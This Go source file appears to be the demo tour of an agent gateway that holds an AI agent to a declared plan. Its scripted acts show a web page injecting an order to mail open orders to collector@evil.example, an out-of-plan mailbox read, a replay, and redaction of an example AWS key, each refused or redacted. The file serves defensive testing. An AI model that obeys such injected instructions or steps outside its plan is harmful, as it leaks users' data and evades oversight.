package tour

import (
	"encoding/base32"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strings"

	"github.com/gatewright/gatewright/merkle/canon"
	"github.com/gatewright/gatewright/merkle/ledger"
)

// draft is the one plan of the tour: what the agent says it will do, before it does anything.
const draft = `{"goal":"see which orders are open, tell sales, and note what matters","steps":[
	{"server":"demo","tool":"table_query","args":` + openOrders + `},
	{"server":"demo","tool":"mail_send","where":{"to":{"const":"sales@demo.example"},"subject":{"prefix":"Open orders"},"body":{"open":true}}},
	{"server":"demo","tool":"notes_add","where":{"title":{"open":true},"text":{"open":true}}},
	{"server":"demo","tool":"notes_search","args":` + findMark + `,"after":[2]},
	{"server":"demo","tool":"page_fetch","args":` + guestbook + `}]}`

const (
	steps      = 5
	openOrders = `{"table":"orders","columns":["customer","item"],"where":[{"column":"status","op":"eq","value":"open"}]}`
	findMark   = `{"query":"[redacted:"}`
	guestbook  = `{"url":"https://demo.example/guestbook"}`
)

// planned is what the steps allow, for people.
var planned = [steps]string{
	"the open orders, and nothing else of the table",
	"only to sales@demo.example, about open orders",
	"any title, any text",
	"the one query \"[redacted:\", after step 2",
	"the guestbook",
}

// act is a title, what the agent is about, and the calls it makes.
type act struct {
	title, story string
	calls        []call
}

// call is one call of a tool of the demo server, with the judge of its outcome.
type call struct {
	story string // what it is for, when the act has several calls
	tool  string
	args  string
	brief bool // without the table of stages
	judge func(o *outcome) error
	tell  func(o *outcome) string // what came of it, in a few words
}

// acts are those for which the gateway runs. The sixth is the proof.
func (g *guide) acts() []act {
	return []act{
		{"An allowed step", "The agent asks for the open orders, as it said it would.", []call{{
			tool: "table_query", args: openOrders, judge: g.allowed(0, found), tell: func(o *outcome) string { return fmt.Sprintf("%d open orders came back", o.total()) },
		}}},
		{"A refused argument", "A page told the agent to mail them to a stranger. The plan says to whom it may write.", []call{{
			tool: "mail_send", args: `{"to":"collector@evil.example","subject":"Open orders","body":"all of them"}`, judge: refused("args_mismatch"), tell: refusalText,
		}}},
		{"A step outside the plan", "It grows curious and wants to read the outbox. No step of the plan says so.", []call{{
			tool: "mail_outbox", args: `{}`, judge: refused("tool_mismatch"), tell: refusalText,
		}}},
		{"A replay", "The first call once more, byte for byte. A step is good for as many uses as the plan says: one.", []call{{
			tool: "table_query", args: openOrders, judge: refused("step_used"), tell: refusalText,
		}}},
		{"A filter that redacts", "The agent handles a key that it should not have. A filter of the organisation, in WebAssembly, sees each text first.", g.redactions()},
	}
}

// redactions are the calls of act five: a secret in the arguments, what the tool has of it, and a secret in an answer.
func (g *guide) redactions() []call {
	text := "deploy with " + g.secret + " tonight"
	args := canon.AppendString([]byte(`{"title":"Deployment","text":`), text)
	return []call{
		{
			story: "It notes the key down.", tool: "notes_add", args: string(args) + "}",
			judge: g.allowed(2, rewritten(redacted(g.secret))), tell: func(o *outcome) string { return "the note reads: " + strings.Replace(text, g.secret, o.mark(), 1) },
		},
		{
			story: "What did the tool get? Its notes are searched for the mark.", tool: "notes_search", args: findMark, brief: true,
			judge: g.allowed(3, free(g.secret, found)), tell: func(o *outcome) string {
				return fmt.Sprintf("%d note holds the mark: the key never reached the tool", o.total())
			},
		},
		{
			story: "It fetches a page in which somebody left such a key.", tool: "page_fetch", args: guestbook,
			judge: g.allowed(4, redacted(pageSecret)), tell: func(o *outcome) string { return "the page came back with " + o.mark() + " in the key's place" },
		},
	}
}

// pageSecret is what the demo server's guestbook holds: the example key of AWS's documentation. It stands here in two
// pieces, and the other one is made when it is needed, so that no scanner of sources takes either for a leak.
const pageSecret = "AKIA" + "IOSFODNN7EXAMPLE"

// newSecret makes a text of the form of an AWS access key id. It opens nothing.
func newSecret(random io.Reader) (string, error) {
	b := make([]byte, 10)
	if _, err := io.ReadFull(random, b); err != nil {
		return "", fmt.Errorf("make a secret: %w", err)
	}
	return "AKIA" + base32.StdEncoding.EncodeToString(b), nil
}

// allowed judges a call that must have been made as a step of the plan, and then what came back.
func (g *guide) allowed(step int32, more func(o *outcome) error) func(o *outcome) error {
	return func(o *outcome) error {
		switch r := &o.record; {
		case o.refusal != nil:
			return fmt.Errorf("the call was refused: %w", o.refusal)
		case o.result.IsError:
			return fmt.Errorf("the tool reports an error: %s", o.result.Text())
		case r.Kind != ledger.Settled || r.Outcome != ledger.OutcomeOK:
			return fmt.Errorf("the ledger says %s %s of a call that was answered", r.Label(), r.Outcome)
		case o.admitted == nil:
			return errors.New("the ledger does not hold that the call was let out")
		case r.Plan != g.plan.Root || r.Step != step:
			return fmt.Errorf("the ledger says that it was step %d of plan %s", r.Step, r.PlanID)
		case len(o.admitted.Policies) == 0:
			return errors.New("the ledger names no policy that permitted it")
		case !slices.Contains(o.stageNames(), "intent"), !slices.Contains(o.stageNames(), "decide"):
			return fmt.Errorf("the ledger names the stages %q", o.stageNames())
		}
		return more(o)
	}
}

// refused judges a call that must have been refused with this code, and with no effect.
func refused(code string) func(o *outcome) error {
	return func(o *outcome) error {
		switch r := &o.record; {
		case o.refusal == nil:
			return fmt.Errorf("the call went through, and should have been refused with %s", code)
		case o.refusal.Code != code:
			return fmt.Errorf("the call was refused with %s, and should have been with %s", o.refusal.Code, code)
		case r.Kind != ledger.Refused || r.Code != code:
			return fmt.Errorf("the ledger says %s %s of a call that was refused with %s", r.Label(), r.Code, code)
		case o.letOut:
			return errors.New("the ledger holds that the call was let out before it was refused")
		case len(r.Stages) == 0:
			return errors.New("the ledger names no stage that refused it")
		}
		return nil
	}
}

// found wants an answer that lists something.
func found(o *outcome) error {
	if o.total() < 1 {
		return errors.New("the answer lists nothing")
	}
	return nil
}

// free wants a secret not to be in the answer.
func free(secret string, more func(o *outcome) error) func(o *outcome) error {
	return func(o *outcome) error {
		if strings.Contains(string(o.result.Raw), secret) {
			return errors.New("the secret came back as it is")
		}
		return more(o)
	}
}

// redacted wants a mark in a secret's place, and the record to be labelled with the kind of secret.
func redacted(secret string) func(o *outcome) error {
	return free(secret, func(o *outcome) error {
		mark := o.mark()
		if mark == "" {
			return errors.New("there is no [redacted:KIND] in the answer")
		}
		if label := labelOf(mark); !slices.Contains(o.record.Labels, label) {
			return fmt.Errorf("the record does not carry the label %s", label)
		}
		return nil
	})
}

// rewritten wants the record to be about other arguments than those that were sent: it commits to what was let out.
func rewritten(more func(o *outcome) error) func(o *outcome) error {
	return func(o *outcome) error {
		if err := more(o); err != nil {
			return err
		}
		if o.verbatim {
			return errors.New("the record is about the arguments as they were sent, with the secret in them")
		}
		return nil
	}
}

var markForm = regexp.MustCompile(`\[redacted:([a-z0-9_.-]{1,57})\]`)

// mark is the first [redacted:KIND] of the answer, or "".
func (o *outcome) mark() string { return string(markForm.Find(o.result.Raw)) }

// labelOf is the label that goes with a mark.
func labelOf(mark string) string { return "secret:" + markForm.FindStringSubmatch(mark)[1] }

// total is the number that the demo server's lists carry.
func (o *outcome) total() int {
	var body struct {
		Structured json.RawMessage `json:"structuredContent"`
	}
	var list struct {
		Total int `json:"total"`
	}
	if json.Unmarshal(o.result.Raw, &body) != nil {
		return 0
	}
	if body.Structured == nil {
		body.Structured = json.RawMessage(o.result.Text())
	}
	if json.Unmarshal(body.Structured, &list) != nil {
		return 0
	}
	return list.Total
}

func refusalText(o *outcome) string { return o.refusal.Message }
